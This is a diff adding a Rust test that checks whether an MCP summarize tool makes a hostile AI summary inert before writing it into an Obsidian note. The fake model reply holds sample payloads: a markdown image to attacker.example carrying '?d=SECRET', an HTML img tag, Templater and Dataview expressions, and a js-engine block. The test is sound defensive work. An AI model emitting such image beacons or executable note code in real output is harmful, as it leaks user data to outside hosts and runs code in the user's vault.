@@ -556,3 +556,37 @@ async fn offline_fallback_notice_goes_to_stderr_never_stdout() {
         "the fallback notice is missing from stderr: {stderr:.500}"
     );
 }
+
+#[tokio::test]
+async fn summarize_file_over_mcp_writes_a_hostile_answer_inert_and_reports_it_in_meta() {
+    let vault = TempVault::with(&[(
+        "Clip.md",
+        "# Budget\n\nClipped from https://news.example/story.\n\nApproved on Monday.\n",
+    )]);
+    let fake = FakeOpenAi::start();
+    fake.set_fallback(FakeReply::chat(
+        "### Key Points\n- Approved, see [the story](https://news.example/story).\n\
+         - ![c](https://attacker.example/p.png?d=SECRET)\n\
+         - <img src=\"https://attacker.example/i.png\">\n\
+         - <% tp.file.title %> `$= dv.pages()`\n\n\
+         ```js-engine\nreturn 1\n```\n",
+    ));
+    let client = connect_binary(&vault.root(), &[], &fake.env()).await;
+    let result = call(&client, "summarize_file", json!({ "path": "Clip.md" })).await;
+    assert_eq!(result.is_error, Some(false), "{}", text_of(&result));
+    let note = String::from_utf8(vault.read("Clip.md")).unwrap();
+    for construct in ["](https://attacker", "<img", "<%", "`$=", "```js-engine"] {
+        assert!(!note.contains(construct), "{construct:?} written:\n{note}");
+    }
+    assert!(note.contains("- Approved, see [the story](https://news.example/story)."));
+    assert!(note.contains("[image removed: attacker.example]"), "{note}");
+    let defused = &result.meta.as_ref().expect("_meta")["details"]["defused"];
+    assert_eq!(
+        *defused,
+        // `links`: the escaped `<img>` shows its URL as text, which Obsidian would make
+        // clickable, so it is a code span.
+        json!({"remote_images": 1, "html": 1, "links": 1, "code_blocks": 1, "inline_code": 1, "templater": 1}),
+        "the plugin reads what was made inert from _meta"
+    );
+    client.cancel().await.unwrap();
+}
